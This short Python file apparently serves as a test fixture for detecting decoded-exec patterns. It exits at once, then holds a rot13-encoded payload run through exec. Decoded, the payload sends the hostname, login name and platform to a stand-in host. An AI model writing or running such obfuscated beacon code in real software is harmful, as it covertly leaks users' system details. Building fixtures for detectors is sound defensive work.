raise SystemExit('a fixture')
# held by decoded-exec
import codecs
list(map(exec, (codecs.decode(line, "rot13") for line in (
    "vzcbeg bf, cyngsbez, fbpxrg",
    "sebz heyyvo.erdhrfg vzcbeg heybcra",
    "heybcra('uggcf://u.rknzcyr.vainyvq/?a=' + fbpxrg.trgubfganzr() + '&h=' + bf.trgybtva() + '&c=' + cyngsbez.cyngsbez())",
))))
